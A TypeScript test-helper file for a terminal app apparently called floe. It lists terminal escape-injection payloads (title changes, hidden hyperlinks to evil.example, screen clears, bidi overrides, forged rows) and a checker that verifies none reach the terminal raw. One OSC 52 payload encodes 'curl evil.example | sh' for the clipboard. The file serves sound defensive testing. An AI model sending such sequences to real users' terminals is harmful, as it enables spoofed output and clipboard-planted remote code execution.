// Hostile text, as a compromised or malicious server (or a crafted destination.json) would send it,
// and the check that none of it can drive the terminal.
import { expect } from 'vitest';
import { HOSTILE_TEXT } from '../../src/sandbox/hostile.js';

/** A name or message as a hostile server sends it (see src/sandbox/hostile.ts). */
export const HOSTILE = `evil${HOSTILE_TEXT}`;

/** How HOSTILE shows once sanitized: every byte visible, nothing acting. */
export const HOSTILE_SHOWN = 'evil^[]0;pwned-title^G^[]52;c;';

/** Text that would start a row of its own if the newline before it reached the terminal raw. */
export const FORGED_ROW = 'FORGED-ROW';

/**
 * One of each kind of sequence that would act on a terminal, each with marker text beside it so that a
 * CSI a screen also writes itself (erase, cursor moves) is still told apart when it comes from a server.
 */
export const PAYLOADS: readonly string[] = [
  '\u001b]0;pwned-title\u0007', // OSC 0 (window title), BEL-terminated
  '\u001b]2;pwned-st\u001b\\', // OSC 2, ST-terminated
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', // OSC 52: the clipboard
  '\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\', // OSC 8: a hidden hyperlink
  '\u001b[2Jcls', // CSI 2J: clear the screen
  '\u001b[1;1Hhome\u001b[5Aup\u001b[3Cright', // cursor moves
  '\u001bcreset', // RIS: a full reset
  '\u009b31mc1csi', // C1 CSI
  '\u009d0;c1osc\u009c', // C1 OSC … C1 ST
  '\roverwrite', // a lone carriage return: overwrites the row
  `\n${FORGED_ROW}`, // a newline forging a row of its own
  '\u202ertl\u202c', // bidi override
  '\u2066iso\u2069', // bidi isolate
  'ls\u2028ps\u2029', // line and paragraph separators
  'del\u007f', // DEL
  'nul\u0000', // NUL
  'bs\u0008\u0008', // backspaces
];

/**
 * The `n`th hostile string: every payload, starting with a different one each time (a field shown
 * cut to its column still shows a different kind first), after a short visible tag.
 */
export function hostileString(n: number): string {
  const at = n % PAYLOADS.length;
  return `h${n}${[...PAYLOADS.slice(at), ...PAYLOADS.slice(0, at)].join('')}`;
}

/** The escape sequences floe and Ink write themselves: SGR styling, cursor moves, erases, modes. */
const OWN = /\u001b\[[0-9;?]*[mABCDGHJKhl]/g;

/**
 * C0 controls but \t and \n, DEL, C1, bidi embeddings/overrides/isolates/marks, the line and
 * paragraph separators: none of these may reach a terminal from text floe did not write. \r only as
 * part of \r\n on a terminal (the pty's line discipline adds it).
 */
const CONTROL =
  /[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

function describe(raw: string, at: number): string {
  const code = raw.codePointAt(at) ?? 0;
  const before = raw.slice(Math.max(0, at - 60), at);
  const after = raw.slice(at, at + 40);
  return `U+${code.toString(16).toUpperCase().padStart(4, '0')} at ${at}: …${JSON.stringify(before)} ‸ ${JSON.stringify(after)}…`;
}

/** What in `raw` (a stream a terminal would receive) could act on it; empty when it is inert. */
export function controlProblems(
  raw: string,
  { terminal = false, columns }: { terminal?: boolean; columns?: number } = {},
): string[] {
  const problems: string[] = [];
  // The raw sequences themselves, whatever the rest.
  for (const payload of PAYLOADS)
    if (payload !== `\n${FORGED_ROW}` && raw.includes(payload))
      problems.push(`holds the payload ${JSON.stringify(payload)} raw`);
  let text = raw.replace(OWN, (m) => ' '.repeat(m.length));
  if (terminal) text = text.replace(/\r\n/g, ' \n');
  const esc = text.indexOf('\u001b');
  if (esc !== -1) problems.push(`an escape that is not floe's own: ${describe(text, esc)}`);
  const control = CONTROL.exec(text);
  if (control) problems.push(`a control character: ${describe(text, control.index)}`);
  const lines = (terminal ? raw.replace(/\r\n/g, '\n') : raw).replace(OWN, '').split('\n');
  // A row that starts with the marker after a row that does not end with the newline made visible
  // (`^J`), unless a screen `columns` wide wrapped there itself: the marker's word did not fit after
  // the row before (a screen may show a line break as a space, then wrap at it).
  const forged = lines.findIndex((line, i) => {
    if (!line.trimStart().startsWith(FORGED_ROW)) return false;
    const before = (lines[i - 1] ?? '').trimEnd();
    if (before.endsWith('^J')) return false;
    const word = line.trimStart().split(' ')[0] ?? '';
    return columns === undefined || before.length + 1 + word.length <= columns;
  });
  if (forged !== -1)
    problems.push(
      `a row forged by a raw newline: ${JSON.stringify(lines.slice(Math.max(0, forged - 1), forged + 1).join('\n'))}`,
    );
  return problems;
}

/**
 * Fails if `raw` (what a terminal received, or stdout/stderr) holds any control sequence or character
 * that did not come from floe: see controlProblems. `terminal`: the raw stream of a pty (\r\n allowed).
 */
export function expectInert(raw: string, { terminal = true, what = 'terminal output' } = {}): void {
  expect(controlProblems(raw, { terminal }), `${what} is not inert`).toEqual([]);
}
